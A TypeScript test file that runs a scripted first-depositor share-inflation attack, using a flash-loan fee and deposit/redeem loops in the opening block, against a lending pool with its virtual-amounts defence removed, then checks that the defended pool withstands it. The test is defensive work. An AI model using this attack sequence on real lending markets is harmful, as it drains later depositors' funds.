import { expect } from "chai";

import { removable } from "../shared/defences.ts";
import { onOurs, onPools, outcome } from "../shared/on-pools.ts";
import { deployPool, type DeployedPool } from "../shared/pool-fixtures.ts";
import { callOf, type ScriptedCall } from "../shared/scripts.ts";

/** What the share is to be worth when the victim comes: of less than twice that he loses up to half. [base units] */
const GOAL = 1_000_000_000n;

/**
 * Hundred, Sonne, zkLend (February 2025): the first lender, in the block in which the market opens, makes one share dear without
 * any donation: each deposit of a unit less than two shares are worth buys one only, and each redemption of one leaves the
 * rounding behind. The next to deposit gets less than he paid for, and the attacker the rest.
 *
 * @returns What the victim lost of 1,999 dollars, what the attacker gained, and how the attack was refused.
 */
async function inflate(p: DeployedPool) {
  const { pool, poolAddress, loan, ethers, networkHelpers, lender, unit, connection } = p;
  await p.admin.setFlashFee(1);
  const account = await ethers.deployContract("ScriptedAccount");
  const attacker = await account.getAddress();
  await loan.mint(attacker, 10n * GOAL);
  const approve = await callOf(loan, "approve", [poolAddress, 100n * GOAL]);
  const calls: ScriptedCall[] = [approve, await callOf(pool, "deposit", [1n, attacker])];
  // Without virtual amounts the first share is a unit. The fee of a loan, rounded up, makes it two.
  calls.push(await callOf(pool, "flashLoan", [attacker, await loan.getAddress(), 1n, "0x"]));
  let worth = 2n;
  for (; worth < GOAL; worth -= worth / 2n) {
    calls.push(await callOf(pool, "deposit", [2n * worth - 1n, attacker]));
    calls.push(await callOf(pool, "redeem", [1n, attacker, attacker]));
    worth = 3n * worth - 1n; // of two shares, one of which goes
  }
  const before = await loan.balanceOf(attacker);
  // The market is opened and taken in one block.
  await connection.provider.request({ method: "evm_setAutomine", params: [false] });
  const opened = await p.admin.setReserveFactor(1_000, { gasLimit: 200_000 });
  const attack = await account.run(calls, { gasLimit: 16_000_000 });
  await networkHelpers.mine();
  await connection.provider.request({ method: "evm_setAutomine", params: [true] });
  const refused = await outcome(attack.wait());
  const sameBlock = (await opened.wait())?.blockNumber === (await ethers.provider.getBlock("latest"))?.number;
  const paid = 1_999n * unit;
  await pool.connect(lender).deposit(paid, lender.address);
  const lost = paid - (await pool.convertToAssets(await pool.balanceOf(lender.address)));
  const held = await pool.balanceOf(attacker);
  if (held !== 0n) await account.run([await callOf(pool, "redeem", [held, attacker, attacker])]);
  return { lost, gained: (await loan.balanceOf(attacker)) - before, refused, sameBlock };
}

describe("Attack: making the first share so dear that the next deposit rounds away", () => {
  it("takes a quarter of the next deposit in the weak copy; with us a share is a millionth of a unit", async () => {
    const { ours, weak } = await onPools(removable("virtual amounts"), inflate, deployPool);
    expect(weak.sameBlock).to.equal(true);
    expect(weak.refused).to.equal("done");
    expect(weak.lost).to.be.greaterThan(100_000_000n);
    expect(weak.gained).to.be.greaterThan(100_000_000n);
    expect(ours.sameBlock).to.equal(true);
    expect(ours.lost).to.be.at.most(1n);
    expect(ours.gained).to.be.at.most(0n);
  });

  it("by halves, as far as it goes with us, makes the attacker poorer and the share no dearer", async () => {
    const ours = await onOurs(
      "virtual amounts",
      async ({ pool, lender, unit, otherLender }: DeployedPool) => {
        const attacker = pool.connect(lender);
        await attacker.deposit(1n, lender.address);
        const paid: bigint[] = [];
        for (let round = 0; round < 15; ++round) {
          const worth = (await pool.totalAssets()) + 1n;
          await attacker.deposit(2n * worth - 1n, lender.address);
          await attacker.redeem((await pool.balanceOf(lender.address)) / 2n, lender.address, lender.address);
          paid.push(await pool.convertToAssets(10n ** 12n));
        }
        await pool.connect(otherLender).deposit(1_999n * unit, otherLender.address);
        const victim = await pool.convertToAssets(await pool.balanceOf(otherLender.address));
        return { price: paid[paid.length - 1], victim: 1_999n * unit - victim };
      },
      deployPool,
    );
    expect(ours.price).to.be.within(10n ** 6n, 2n * 10n ** 6n); // a unit of 10⁶ shares
    expect(ours.victim).to.be.at.most(2n);
  });
});
